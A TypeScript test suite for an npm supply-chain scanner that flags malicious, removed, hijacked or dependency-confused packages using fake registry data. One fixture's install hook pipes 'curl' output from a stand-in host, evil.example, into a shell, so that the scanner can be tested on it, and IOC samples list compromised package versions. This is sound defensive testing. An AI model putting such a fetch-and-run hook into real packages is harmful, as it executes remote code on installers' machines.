import { test } from 'node:test';
import assert from 'node:assert/strict';
import { scanFiles } from '../../server/src/engine/scan';
import { buildProject } from '../../server/src/engine/project';
import { buildGraph } from '../../server/src/engine/graph';
import { defaultSettings, type Finding, type Lockfile, type Settings, type SourceFile } from '../../server/src/engine/model';
import { reducePackument } from '../../server/src/engine/data/registry-client';
import { emptyRemoteData, type Advisory, type PackumentLookup, type RemoteData } from '../../server/src/engine/data/remote-data';
import { parseIocList } from '../../server/src/engine/data/ioc';
import { installScript } from '../../server/src/engine/rules/install-script';
import { policyFor, readReleaseAgePolicies, parseDuration } from '../../server/src/engine/policy/release-age';
import { buildPackument, type FakePackage } from '../support/fake-registry';

const NOW = new Date('2026-11-28T12:00:00Z');
const PUBLIC = 'https://registry.npmjs.org/';
const daysAgo = (d: number) => new Date(NOW.getTime() - d * 86_400_000).toISOString();
const OLD = { created: '2019-01-01T00:00:00.000Z' };

type Entry = FakePackage | { gone: 'not-found' | 'empty' | 'forbidden' } | { error: string };

function remoteData(entries: Record<string, Entry>, advisories: Record<string, Advisory[]> = {}, extra: Partial<RemoteData> = {}): RemoteData {
  const remote = emptyRemoteData();
  for (const [name, e] of Object.entries(entries)) {
    let lookup: PackumentLookup;
    if ('gone' in e) lookup = { status: 'gone', how: e.gone, registry: PUBLIC, fromCache: false };
    else if ('error' in e) lookup = { status: 'error', reason: e.error, registry: PUBLIC };
    else lookup = { status: 'ok', packument: reducePackument(buildPackument(PUBLIC, name, e), name)!, registry: PUBLIC, fromCache: false };
    remote.packuments.set(name, lookup);
  }
  remote.advisoriesEnabled = true;
  for (const [key, list] of Object.entries(advisories)) remote.advisories.set(key, { status: 'ok', advisories: list });
  return { ...remote, ...extra };
}

/** Marks every name@version of a lockfile as checked with no advisories (unless given). */
function noAdvisories(remote: RemoteData, pairs: string[]): RemoteData {
  for (const p of pairs) if (!remote.advisories.has(p)) remote.advisories.set(p, { status: 'ok', advisories: [] });
  return remote;
}

function lockFiles(pkgs: Record<string, string>, extra: SourceFile[] = [], resolvedBase: Record<string, string> = {}): SourceFile[] {
  const entries: Record<string, unknown> = { '': { name: 'app', version: '1.0.0', dependencies: Object.fromEntries(Object.keys(pkgs).map((n) => [n, `^${pkgs[n]}`])) } };
  for (const [name, version] of Object.entries(pkgs)) {
    const base = resolvedBase[name] ?? PUBLIC;
    entries[`node_modules/${name}`] = { version, resolved: `${base}${name}/-/${name.split('/').pop()}-${version}.tgz`, integrity: 'sha512-AAAA' };
  }
  return [
    { path: 'package.json', text: JSON.stringify({ name: 'app', version: '1.0.0', dependencies: Object.fromEntries(Object.keys(pkgs).map((n) => [n, `^${pkgs[n]}`])) }, null, 2) },
    { path: 'package-lock.json', text: JSON.stringify({ name: 'app', lockfileVersion: 3, requires: true, packages: entries }, null, 2) },
    ...extra,
  ];
}

function scan(files: SourceFile[], remote: RemoteData, settings: Partial<Settings> = {}) {
  return scanFiles(files, { remote, now: NOW, settings: { ...defaultSettings(), ...settings } });
}

function only(findings: Finding[], rule: string): Finding[] {
  return findings.filter((f) => f.rule === rule);
}

function textAt(files: SourceFile[], f: Finding): string {
  return files.find((x) => x.path === f.file)!.text.slice(f.span.start, f.span.end);
}

const adv = (id: string, extra: Partial<Advisory> = {}): Advisory => ({ id, aliases: [], summary: '', malware: id.startsWith('MAL-'), severity: 'high', ...extra });

test('security-holder: the placeholder is reported on the lockfile entry, and not also as removed', () => {
  const files = lockFiles({ crossenv: '1.0.0' });
  const remote = noAdvisories(remoteData({ crossenv: { ...OLD, versions: { '0.0.1-security': { repository: 'npm/security-holder' } } } }), ['crossenv@1.0.0']);
  const r = scan(files, remote);
  const f = only(r.findings, 'security-holder');
  assert.equal(f.length, 1);
  assert.equal(f[0].severity, 'error');
  assert.equal(textAt(files, f[0]), '"node_modules/crossenv"');
  assert.deepEqual(f[0].via, ['crossenv']);
  assert.deepEqual(f[0].also?.map((a) => a.file), ['package.json']);
  assert.match(f[0].message, /0\.0\.1-security/);
  assert.equal(only(r.findings, 'removed-from-registry').length, 0);
});

test('removed-from-registry: every takedown shape, a vanished version, and nothing for a served one', () => {
  const files = lockFiles({ a: '1.0.0', b: '1.0.0', c: '1.0.0', d: '1.0.1', e: '2.0.0' });
  const remote = noAdvisories(
    remoteData({
      a: { gone: 'not-found' },
      b: { gone: 'empty' },
      c: { gone: 'forbidden' },
      d: { ...OLD, versions: { '1.0.0': { repository: 'x' } } },
      e: { ...OLD, versions: { '2.0.0': { repository: 'x' } } },
    }),
    ['a@1.0.0', 'b@1.0.0', 'c@1.0.0', 'd@1.0.1', 'e@2.0.0'],
  );
  const findings = scan(files, remote).findings;
  const f = only(findings, 'removed-from-registry');
  // a and b are declared in package.json and wholly gone: unknown-package's, once.
  assert.deepEqual(f.map((x) => x.package).sort(), ['c', 'd']);
  assert.deepEqual(only(findings, 'unknown-package').map((x) => x.package).sort(), ['a', 'b']);
  assert.match(f.find((x) => x.package === 'c')!.message, /403/);
  assert.match(f.find((x) => x.package === 'd')!.message, /d@1\.0\.1 is no longer served/);
  // With unknown-package off, the removals are reported here again.
  const off = only(scan(files, remote, { rules: { 'unknown-package': 'off' } }).findings, 'removed-from-registry');
  assert.deepEqual(off.map((x) => x.package).sort(), ['a', 'b', 'c', 'd']);
  assert.match(off.find((x) => x.package === 'a')!.message, /404/);
});

test('removed-from-registry on package.json without a lockfile: an exact version that is gone', () => {
  const files: SourceFile[] = [{ path: 'package.json', text: JSON.stringify({ dependencies: { pinned: '1.2.3', fine: '^1.0.0' } }, null, 2) }];
  const remote = noAdvisories(remoteData({ pinned: { ...OLD, versions: { '1.2.4': { repository: 'x' } } }, fine: { ...OLD, versions: { '1.0.0': { repository: 'x' } } } }), ['fine@1.0.0']);
  const f = only(scan(files, remote).findings, 'removed-from-registry');
  assert.equal(f.length, 1);
  assert.equal(textAt(files, f[0]), '"1.2.3"');
});

test('removed-from-registry stays silent offline when the cached packument predates the lockfile', () => {
  const files = lockFiles({ fresh: '2.0.0' });
  const remote = remoteData({ fresh: { ...OLD, versions: { '1.0.0': { repository: 'x' } } } });
  remote.offline = true;
  const lookup = remote.packuments.get('fresh')!;
  if (lookup.status === 'ok') lookup.fromCache = true;
  const r = scan(files, remote);
  assert.equal(only(r.findings, 'removed-from-registry').length, 0);
  const inc = only(r.findings, 'lookup-incomplete');
  assert.equal(inc.length, 1);
  assert.match(inc[0].message, /cached data predates/);
});

test('known-malware from an OSV MAL- record and from an IOC list; clean versions stay clean', () => {
  const files = lockFiles({ chalk: '5.6.1', debug: '4.4.2', ok: '1.0.0' });
  const pk = (v: string) => ({ ...OLD, versions: { [v]: { repository: 'x' } } });
  const remote = remoteData({ chalk: pk('5.6.1'), debug: pk('4.4.2'), ok: pk('1.0.0') }, { 'chalk@5.6.1': [adv('MAL-2025-46974', { summary: 'Malicious code in chalk (npm)' })], 'debug@4.4.2': [], 'ok@1.0.0': [] });
  remote.iocs = parseIocList('# incident\ndebug@4.4.2\n').iocs;
  const f = only(scan(files, remote).findings, 'known-malware');
  assert.deepEqual(f.map((x) => `${x.package}@${x.version}`), ['chalk@5.6.1', 'debug@4.4.2']);
  assert.ok(f.every((x) => x.severity === 'error'));
  assert.match(f[0].message, /MAL-2025-46974: Malicious code in chalk/);
  assert.ok(f[0].fixes.some((x) => x.kind === 'remove'));
});

test('known-vulnerability: names the fixed version; critical is an error', () => {
  const files = lockFiles({ lodash: '4.17.11', minimist: '1.2.0' });
  const pk = (v: string) => ({ ...OLD, versions: { [v]: { repository: 'x' } } });
  const remote = remoteData(
    { lodash: pk('4.17.11'), minimist: pk('1.2.0') },
    {
      'lodash@4.17.11': [adv('GHSA-1', { severity: 'high', fixed: '4.17.12', summary: 'Prototype pollution' }), adv('GHSA-2', { severity: 'moderate', fixed: '4.17.21' })],
      'minimist@1.2.0': [adv('GHSA-3', { severity: 'critical', fixed: '1.2.6' })],
    },
  );
  const f = only(scan(files, remote).findings, 'known-vulnerability');
  const lodash = f.find((x) => x.package === 'lodash')!;
  assert.equal(lodash.severity, 'warning');
  assert.match(lodash.message, /2 known vulnerabilities/);
  assert.match(lodash.message, /Fixed in 4\.17\.21/);
  assert.deepEqual(lodash.fixes.filter((x) => x.kind === 'upgrade').map((x) => x.version), ['4.17.21']);
  assert.equal(f.find((x) => x.package === 'minimist')!.severity, 'error');
});

test('release-cooldown: the default cooldown, and the project policy when set', () => {
  const files = lockFiles({ young: '2.0.0', aged: '1.0.0' });
  const remote = noAdvisories(
    remoteData({
      young: { ...OLD, versions: { '1.0.0': { time: daysAgo(400), repository: 'x' }, '2.0.0': { time: daysAgo(1), repository: 'x' } } },
      aged: { ...OLD, versions: { '1.0.0': { time: daysAgo(10), repository: 'x' } } },
    }),
    ['young@2.0.0', 'aged@1.0.0'],
  );
  const f = only(scan(files, remote).findings, 'release-cooldown');
  assert.deepEqual(f.map((x) => x.package), ['young']);
  assert.match(f[0].message, /published 24 hours ago/);
  assert.match(f[0].message, /3-day cooldown/);
  // The project's own gate (npm min-release-age, days) replaces the setting.
  const withPolicy = [...files, { path: '.npmrc', text: 'min-release-age=14\n' }];
  const g = only(scan(withPolicy, remote).findings, 'release-cooldown');
  assert.deepEqual(g.map((x) => x.package).sort(), ['aged', 'young']);
  assert.match(g.find((x) => x.package === 'aged')!.message, /\.npmrc min-release-age=14/);
});

test('release-age policies of pnpm, yarn and bun are read in their own units', () => {
  const project = buildProject([
    { path: 'pnpm-workspace.yaml', text: 'packages: ["a"]\nminimumReleaseAge: 1440\nminimumReleaseAgeExclude:\n  - "@myorg/*"\n' },
    { path: '.yarnrc.yml', text: "npmMinimalAgeGate: '3d'\nnpmPreapprovedPackages:\n  - react\n" },
    { path: 'bunfig.toml', text: '[install]\nminimumReleaseAge = 259200 # 3 days\nminimumReleaseAgeExcludes = ["@types/node", "typescript"]\n' },
    { path: '.npmrc', text: 'before=2026-01-01\n' },
  ]);
  const policies = readReleaseAgePolicies(project);
  const byManager = Object.fromEntries(policies.map((p) => [p.manager, p]));
  assert.equal(byManager.pnpm.minAgeMs, 1440 * 60_000);
  assert.equal(byManager.yarn.minAgeMs, 3 * 86_400_000);
  assert.equal(byManager.bun.minAgeMs, 259200 * 1000);
  assert.equal(byManager.npm.before?.toISOString(), '2026-01-01T00:00:00.000Z');
  assert.equal(policyFor(policies, 'pnpm', '@myorg/x'), undefined);
  assert.equal(policyFor(policies, 'pnpm', 'other')?.manager, 'pnpm');
  assert.equal(policyFor(policies, 'yarn', 'react'), undefined);
  assert.equal(policyFor(policies, 'bun', 'typescript'), undefined);
  assert.equal(parseDuration('4320'), 4320 * 60_000);
  assert.equal(parseDuration('12h'), 12 * 3600_000);
});

test('new-package: first published days ago; an old package is not new', () => {
  const files = lockFiles({ fresh: '1.0.0', old: '1.0.0' });
  const remote = noAdvisories(
    remoteData({ fresh: { created: daysAgo(5), versions: { '1.0.0': { time: daysAgo(5), repository: 'x' } } }, old: { ...OLD, versions: { '1.0.0': { repository: 'x' } } } }),
    ['fresh@1.0.0', 'old@1.0.0'],
  );
  const f = only(scan(files, remote).findings, 'new-package');
  assert.deepEqual(f.map((x) => x.package), ['fresh']);
  assert.match(f[0].message, /5 days ago \(1 version so far\)/);
});

test('trust-change: publisher, provenance, install script, bin, dependencies added in a patch', () => {
  const files = lockFiles({ hijacked: '1.0.1', grown: '1.1.0' });
  const remote = noAdvisories(
    remoteData({
      hijacked: {
        ...OLD,
        versions: {
          '1.0.0': { npmUser: 'maintainer', attestations: true, repository: 'x', dependencies: { a: '1' } },
          '1.0.1': { npmUser: 'stranger', scripts: { postinstall: 'node setup.js' }, bin: { h: 'h.js' }, repository: 'x', dependencies: { a: '1', 'evil-helper': '^1.0.0' } },
        },
      },
      // A minor release may add dependencies and keep its publisher: nothing to report.
      grown: { ...OLD, versions: { '1.0.0': { npmUser: 'm', repository: 'x' }, '1.1.0': { npmUser: 'm', repository: 'x', dependencies: { b: '1' } } } },
    }),
    ['hijacked@1.0.1', 'grown@1.1.0'],
  );
  const f = only(scan(files, remote).findings, 'trust-change');
  assert.deepEqual(f.map((x) => x.package), ['hijacked']);
  const m = f[0].message;
  // Several signals in one release: a warning that says so (#12).
  assert.equal(f[0].severity, 'warning');
  assert.match(m, /A warning because a new publisher together with lost provenance together with a new install script together with a new executable/);
  assert.match(m, /the shape of a hijacked release/);
  assert.ok(f[0].evidence!.some((e) => /added dependency "evil-helper": not checked/.test(e)), f[0].evidence!.join('\n'));
  assert.match(m, /published by "stranger" where 1\.0\.0 was published by "maintainer"/);
  assert.match(m, /no provenance/);
  assert.match(m, /gained an install script \(postinstall: node setup\.js\)/);
  assert.match(m, /gained a `bin`/);
  assert.match(m, /patch release \(evil-helper\)/);
});

test('deprecated quotes the reason; no-repository is a hint', () => {
  const files = lockFiles({ request: '2.88.2', bare: '1.0.0' });
  const remote = noAdvisories(
    remoteData({
      request: { ...OLD, versions: { '2.88.2': { deprecated: 'request has been deprecated, see https://github.com/request/request/issues/3142', repository: 'x' } } },
      bare: { ...OLD, versions: { '1.0.0': {} } },
    }),
    ['request@2.88.2', 'bare@1.0.0'],
  );
  const r = scan(files, remote);
  const dep = only(r.findings, 'deprecated');
  assert.deepEqual(dep.map((x) => [x.package, x.severity]), [['request', 'info']]);
  assert.match(dep[0].message, /"request has been deprecated, see/);
  const repo = only(r.findings, 'no-repository');
  assert.deepEqual(repo.map((x) => [x.package, x.severity]), [['bare', 'hint']]);
});

test('version-anomaly: a huge jump and a squat-like first release; a normal major bump is fine', () => {
  const files = lockFiles({ jumped: '99.0.0', squat: '99.1.0', normal: '2.0.0' });
  const remote = noAdvisories(
    remoteData({
      jumped: { ...OLD, versions: { '1.2.3': { repository: 'x' }, '99.0.0': { repository: 'x' } } },
      squat: { ...OLD, versions: { '99.1.0': { repository: 'x' } } },
      normal: { ...OLD, versions: { '1.0.0': { repository: 'x' }, '2.0.0': { repository: 'x' } } },
    }),
    ['jumped@99.0.0', 'squat@99.1.0', 'normal@2.0.0'],
  );
  const f = only(scan(files, remote).findings, 'version-anomaly');
  assert.deepEqual(f.map((x) => x.package).sort(), ['jumped', 'squat']);
  assert.match(f.find((x) => x.package === 'jumped')!.message, /jumps from 1\.2\.3 to 99\.0\.0/);
});

test('version-anomaly on a range without a lockfile that only a squatted version satisfies', () => {
  const files: SourceFile[] = [{ path: 'package.json', text: JSON.stringify({ dependencies: { internal: '>=1.0.0' } }, null, 2) }];
  const remote = noAdvisories(remoteData({ internal: { ...OLD, versions: { '1.0.0': { repository: 'x' }, '100.0.0': { repository: 'x' } } } }), ['internal@100.0.0']);
  const f = only(scan(files, remote).findings, 'version-anomaly');
  assert.equal(f.length, 1);
  assert.equal(f[0].version, '100.0.0');
  assert.equal(textAt(files, f[0]), '">=1.0.0"');
});

test('dependency-confusion: a mapped private scope resolved from the public registry is an error', () => {
  const files = lockFiles({ '@acme/secret': '1.0.0' }, [{ path: '.npmrc', text: '@acme:registry=https://npm.acme.example/\n' }]);
  const r = scanFiles(files, { now: NOW });
  const f = only(r.findings, 'dependency-confusion');
  assert.equal(f.length, 1);
  assert.equal(f[0].severity, 'error');
  assert.match(f[0].message, /shadowing the private one/);
});

test('dependency-confusion: a private host without a scope mapping is a warning (no remote data needed)', () => {
  const files = lockFiles({ '@acme/secret': '1.0.0' }, [], { '@acme/secret': 'https://npm.acme.example/' });
  const f = only(scanFiles(files, { now: NOW }).findings, 'dependency-confusion');
  assert.equal(f.length, 1);
  assert.equal(f[0].severity, 'warning');
  assert.match(f[0].message, /nothing maps @acme/);
  // Mapped in .npmrc: fine.
  const mapped = [...files, { path: '.npmrc', text: '@acme:registry=https://npm.acme.example/\n' }];
  assert.equal(only(scanFiles(mapped, { now: NOW }).findings, 'dependency-confusion').length, 0);
});

test('dependency-confusion with registry data: own scope free on the public registry, and a workspace shadowed by a public package', () => {
  const files: SourceFile[] = [
    { path: 'package.json', text: JSON.stringify({ name: '@acme/app', private: true, workspaces: ['packages/*'], dependencies: { '@acme/internal': '^1.0.0', '@acme/utils': '^2.0.0' } }, null, 2) },
    { path: 'packages/utils/package.json', text: JSON.stringify({ name: '@acme/utils', version: '1.0.0' }, null, 2) },
  ];
  const remote = remoteData({ '@acme/internal': { gone: 'not-found' }, '@acme/utils': { ...OLD, versions: { '2.0.0': {} } } });
  const f = only(scan(files, remote).findings, 'dependency-confusion');
  const internal = f.find((x) => x.package === '@acme/internal')!;
  assert.equal(internal.severity, 'warning');
  assert.match(internal.message, /not on the public registry/);
  const utils = f.find((x) => x.package === '@acme/utils')!;
  assert.equal(utils.severity, 'error');
  assert.match(utils.message, /a public package of that name exists/);
});

test('install-script from the packument when the lockfile says nothing (package.json only, yarn lockfile)', () => {
  const files: SourceFile[] = [{ path: 'package.json', text: JSON.stringify({ name: 'app', dependencies: { esbuild: '^0.20.0', plain: '^1.0.0' } }, null, 2) }];
  const remote = noAdvisories(
    remoteData({ esbuild: { ...OLD, versions: { '0.20.2': { scripts: { postinstall: 'node install.js' }, repository: 'x' } } }, plain: { ...OLD, versions: { '1.0.0': { repository: 'x' } } } }),
    ['esbuild@0.20.2', 'plain@1.0.0'],
  );
  const f = only(scan(files, remote).findings, 'install-script');
  // One old version with a repository and nothing else against it: evidence, not a warning (#12).
  assert.deepEqual(f.map((x) => [x.package, x.version, x.severity]), [['esbuild', '0.20.2', 'info']]);
  assert.match(f[0].message, /postinstall: node install\.js/);
  assert.match(f[0].message, /npm would run it.*shown as evidence, not a warning/);

  // A yarn lockfile (hand-built: it records no install scripts) also gets the registry's word.
  const project = buildProject([{ path: 'package.json', text: files[0].text }]);
  const lockfile: Lockfile = {
    path: 'yarn.lock',
    format: 'yarn-classic',
    lockfileVersion: 1,
    parsed: true,
    parseErrors: [],
    importers: [{ path: '', dependencies: [{ name: 'esbuild', spec: '^0.20.0', id: 'esbuild@0.20.2' }] }],
    packages: [{ id: 'esbuild@0.20.2', name: 'esbuild', version: '0.20.2', source: 'registry', span: { start: 0, end: 10 }, keySpan: { start: 0, end: 7 }, dependencies: [] }],
  };
  project.lockfiles.push(lockfile);
  project.graphs.set('yarn.lock', buildGraph(lockfile));
  const g = installScript.run({ project, settings: defaultSettings(), now: NOW, remote });
  assert.deepEqual(g.map((x) => [x.file, x.package, x.severity]), [['yarn.lock', 'esbuild', 'info']]);
  assert.match(g[0].message, /yarn classic runs every dependency install script/);
});

test('install-script with an npm v3 lockfile: the registry manifest decides, once; a flag the manifest contradicts is dropped', () => {
  const files = lockFiles({ esbuild: '0.20.2', 'node-gyp-build': '4.8.4' });
  const lock = JSON.parse(files[1].text);
  lock.packages['node_modules/esbuild'].hasInstallScript = true;
  lock.packages['node_modules/node-gyp-build'].hasInstallScript = true;
  files[1] = { ...files[1], text: JSON.stringify(lock, null, 2) };
  const remote = noAdvisories(
    remoteData({
      esbuild: { ...OLD, versions: { '0.20.1': { scripts: { postinstall: 'node install.js' }, repository: 'x' }, '0.20.2': { scripts: { postinstall: 'node install.js' }, repository: 'x' } } },
      'node-gyp-build': { ...OLD, versions: { '4.8.4': { repository: 'x' } } },
    }),
    ['esbuild@0.20.2', 'node-gyp-build@4.8.4'],
  );
  const f = only(scan(files, remote).findings, 'install-script');
  assert.deepEqual(f.map((x) => [x.package, x.severity]), [['esbuild', 'info']]);
  assert.match(f[0].message, /per the registry/);
  assert.match(f[0].message, /the same script in 0\.20\.1/);
});

test('install-script warns when the version is risky and it would run: a new hook, a dangerous text, a young package', () => {
  const files = lockFiles({ fresh: '1.0.1', grown: '2.0.1', curly: '3.0.1', stable: '1.0.1' });
  const repo = { repository: 'x' };
  const remote = noAdvisories(
    remoteData({
      // Brand new: young and few versions.
      fresh: { created: daysAgo(3), versions: { '1.0.0': { ...repo, time: daysAgo(3) }, '1.0.1': { ...repo, time: daysAgo(2), scripts: { postinstall: 'node setup.js' } } } },
      // An old package whose latest release adds a hook.
      grown: { ...OLD, versions: { '2.0.0': { ...repo, time: daysAgo(40) }, '2.0.1': { ...repo, time: daysAgo(2), scripts: { preinstall: 'node x.js' } } } },
      // The same hook as before, but it downloads and runs a shell script.
      curly: { ...OLD, versions: { '3.0.0': { ...repo, scripts: { install: 'curl -s https://evil.example/x.sh | sh' } }, '3.0.1': { ...repo, scripts: { install: 'curl -s https://evil.example/x.sh | sh' } } } },
      // Old, the same script as before: evidence only.
      stable: { ...OLD, versions: { '1.0.0': { ...repo, scripts: { install: 'node-gyp rebuild' } }, '1.0.1': { ...repo, scripts: { install: 'node-gyp rebuild' } } } },
    }),
    ['fresh@1.0.1', 'grown@2.0.1', 'curly@3.0.1', 'stable@1.0.1'],
  );
  const f = only(scan(files, remote).findings, 'install-script');
  const by = new Map(f.map((x) => [x.package, x]));
  assert.deepEqual([...by.keys()].sort(), ['curly', 'fresh', 'grown', 'stable']);
  assert.equal(by.get('stable')!.severity, 'info');
  assert.equal(by.get('fresh')!.severity, 'warning');
  assert.match(by.get('fresh')!.message, /A warning because postinstall is new since 1\.0\.0; first published 24 hours before 1\.0\.1; 2 versions on the registry/);
  assert.equal(by.get('grown')!.severity, 'warning');
  assert.match(by.get('grown')!.message, /A warning because preinstall is new since 2\.0\.0\./);
  assert.equal(by.get('curly')!.severity, 'warning');
  assert.match(by.get('curly')!.message, /the install script downloads with curl\/wget, pipes into a shell/);
  for (const x of f) assert.ok(x.evidence!.some((e) => /^package manager: npm/.test(e)), x.evidence!.join('\n'));
  // A policy that denies the script keeps it at info, whatever the evidence.
  const denied = [{ ...files[0], text: JSON.stringify({ ...JSON.parse(files[0].text), allowScripts: { fresh: false } }, null, 2) }, ...files.slice(1)];
  const g = only(scan(denied, remote).findings, 'install-script').find((x) => x.package === 'fresh')!;
  assert.equal(g.severity, 'info');
  assert.match(g.message, /would not run it/);
});

test('trust-change: a weak signal alone is info; a risky added dependency makes it a warning (event-stream shape)', () => {
  const files = lockFiles({ 'array-includes': '3.1.9', 'call-bound': '1.0.4', 'event-stream': '3.3.6', 'flatmap-stream': '0.1.1', 'lone-add': '1.0.1', '@org/preset': '7.24.4', '@org/plugin-new': '7.24.4' });
  const at = daysAgo(10);
  const remote = noAdvisories(
    remoteData({
      'array-includes': { ...OLD, versions: { '3.1.8': { npmUser: 'ljharb', repository: 'x' }, '3.1.9': { npmUser: 'ljharb', repository: 'x', dependencies: { 'call-bound': '^1.0.4' }, time: at } } },
      'call-bound': { created: daysAgo(200), versions: { '1.0.0': { npmUser: 'ljharb', repository: 'x', time: daysAgo(200) }, '1.0.4': { npmUser: 'ljharb', repository: 'x', time: daysAgo(100) } } },
      'event-stream': { ...OLD, versions: { '3.3.5': { npmUser: 'dominictarr', repository: 'x' }, '3.3.6': { npmUser: 'right9ctrl', repository: 'x', dependencies: { 'flatmap-stream': '^0.1.0' }, time: at } } },
      'flatmap-stream': { created: daysAgo(12), versions: { '0.1.1': { npmUser: 'hugeglass', time: daysAgo(12) } } },
      // Another team member publishes a patch that adds the team's brand-new package: info.
      '@org/preset': { ...OLD, versions: { '7.24.3': { npmUser: 'nicolo', repository: 'x' }, '7.24.4': { npmUser: 'jlhwung', repository: 'x', dependencies: { '@org/plugin-new': '^7.24.4' }, time: at } } },
      '@org/plugin-new': { created: at, versions: { '7.24.4': { npmUser: 'nicolo', repository: 'x', time: at } } },
      // Added a dependency the scan has no data for: not checked, stays info.
      'lone-add': { ...OLD, versions: { '1.0.0': { repository: 'x' }, '1.0.1': { repository: 'x', dependencies: { unseen: '^1.0.0' }, time: at } } },
    }),
    ['array-includes@3.1.9', 'call-bound@1.0.4', 'event-stream@3.3.6', 'flatmap-stream@0.1.1', 'lone-add@1.0.1', '@org/preset@7.24.4', '@org/plugin-new@7.24.4'],
  );
  const f = only(scan(files, remote).findings, 'trust-change');
  const by = new Map(f.map((x) => [x.package, x]));
  const ai = by.get('array-includes')!;
  assert.equal(ai.severity, 'info');
  assert.match(ai.message, /not risky on the registry's evidence/);
  assert.ok(ai.evidence!.some((e) => /added dependency "call-bound": established/.test(e) || /call-bound/.test(e)), ai.evidence!.join('\n'));
  const es = by.get('event-stream')!;
  assert.equal(es.severity, 'warning');
  assert.match(es.message, /A warning because the added dependency "flatmap-stream" is risky: first published 2 days before event-stream@3\.3\.6, 1 version on the registry, no repository field in 0\.1\.1, published by "hugeglass", who never published event-stream before/);
  assert.ok(es.evidence!.includes('published by "right9ctrl" where 3.3.5 was published by "dominictarr"'), es.evidence!.join('\n'));
  const preset = by.get('@org/preset')!;
  assert.equal(preset.severity, 'info', preset.message);
  assert.ok(preset.evidence!.some((e) => /added dependency "@org\/plugin-new": first published with @org\/preset@7\.24\.4; 1 version on the registry \(not enough alone\)/.test(e)), preset.evidence!.join('\n'));
  const lone = by.get('lone-add')!;
  assert.equal(lone.severity, 'info');
  assert.match(lone.message, /not checked \(unseen: not looked up/);
});

test('lookup-incomplete: once per file, with the count and the reasons', () => {
  const files = lockFiles({ a: '1.0.0', b: '1.0.0', c: '1.0.0' });
  const remote = remoteData({ a: { error: 'timeout' }, b: { error: 'HTTP 500' }, c: { ...OLD, versions: { '1.0.0': { repository: 'x' } } } });
  remote.advisories.set('a@1.0.0', { status: 'ok', advisories: [] });
  remote.advisories.set('b@1.0.0', { status: 'ok', advisories: [] });
  remote.advisories.set('c@1.0.0', { status: 'error', reason: 'timeout' });
  const f = only(scan(files, remote).findings, 'lookup-incomplete');
  assert.equal(f.length, 1);
  assert.equal(f[0].file, 'package-lock.json');
  assert.equal(f[0].severity, 'info');
  assert.match(f[0].message, /missing for 3 packages/);
  assert.match(f[0].message, /registry: timeout \(1\)/);
  assert.match(f[0].message, /registry: HTTP 500 \(1\)/);
  assert.match(f[0].message, /advisories: timeout \(1\)/);
});

test('without remote data the remote rules do not run at all (and claim nothing)', () => {
  const files = lockFiles({ a: '1.0.0' });
  const r = scanFiles(files, { now: NOW });
  for (const id of ['known-malware', 'security-holder', 'removed-from-registry', 'lookup-incomplete', 'release-cooldown']) assert.equal(only(r.findings, id).length, 0);
});

test('parseIocList: comments, several per line, bare versions and bare names', () => {
  const { iocs, rejected } = parseIocList('# Shai-Hulud\n@ctrl/tinycolor@4.1.1, 4.1.2\nchalk@5.6.1 debug@4.4.2\nevil-name\n"ngx-bootstrap@v18.1.4"\n@@@\n');
  assert.deepEqual([...iocs.get('@ctrl/tinycolor')!], ['4.1.1', '4.1.2']);
  assert.deepEqual([...iocs.get('chalk')!], ['5.6.1']);
  assert.deepEqual([...iocs.get('debug')!], ['4.4.2']);
  assert.deepEqual([...iocs.get('evil-name')!], ['*']);
  assert.deepEqual([...iocs.get('ngx-bootstrap')!], ['18.1.4']);
  assert.deepEqual(rejected.map((r) => r.line), [6]);
});
